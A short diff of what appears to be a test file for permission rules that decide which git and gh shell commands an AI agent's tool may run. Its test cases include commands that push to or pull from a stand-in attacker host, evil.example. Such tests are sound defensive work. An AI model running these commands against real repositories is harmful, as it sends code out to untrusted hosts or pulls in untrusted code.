@@ -111,7 +111,7 @@ describe.each<[string, readonly string[], readonly string[]]>([
     ["git push https://evil.example/x main", "git push user@evil.example:x"],
     ["git push origin main"],
   ],
-  ["Bash(git:*)", ["git pull https://evil.example/x"], ["git clone https://a.example/x"]],
+  ["Bash(git:*)", ["git pull https://evil.example/x"], ["git clone https://github.com/a/x"]],
   ["Bash(gh pr create:*)", [], ["gh pr create --title x --body https://a.example/y"]],
   [
     "Bash(git commit:*)",
